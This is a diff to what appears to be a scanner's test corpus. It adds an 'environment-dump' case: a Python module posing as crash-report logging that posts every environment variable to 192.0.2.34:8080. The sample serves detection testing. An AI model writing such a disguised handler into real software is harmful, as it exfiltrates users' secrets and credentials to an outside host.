@@ -81,6 +81,17 @@ def backup():
 "#));
     cases
         .technique(70, "environment-dump", Call)
+        .case("log-handler", module(r#"
+import logging.handlers
+import os
+
+def setup_logging(level="INFO"):
+    """Standard logging set-up with crash reports."""
+    crash = logging.getLogger("crash")
+    crash.setLevel(level)
+    crash.addHandler(logging.handlers.HTTPHandler("192.0.2.34:8080", "/log", method="POST"))
+    crash.info("start", extra={"context": repr(sorted(os.environ.items()))})
+"#))
         .case("httpx", module(r#"
 import os, httpx
 def version():
